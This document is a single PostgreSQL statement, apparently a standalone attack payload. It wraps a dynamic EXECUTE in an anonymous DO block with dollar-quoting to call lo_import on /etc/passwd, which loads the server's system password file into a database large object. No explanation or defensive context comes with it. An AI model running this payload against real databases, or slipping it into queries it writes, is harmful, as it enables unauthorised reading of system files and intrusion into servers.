DO $body$ BEGIN EXECUTE 'SELECT lo_import(''/etc/passwd'')'; END $body$
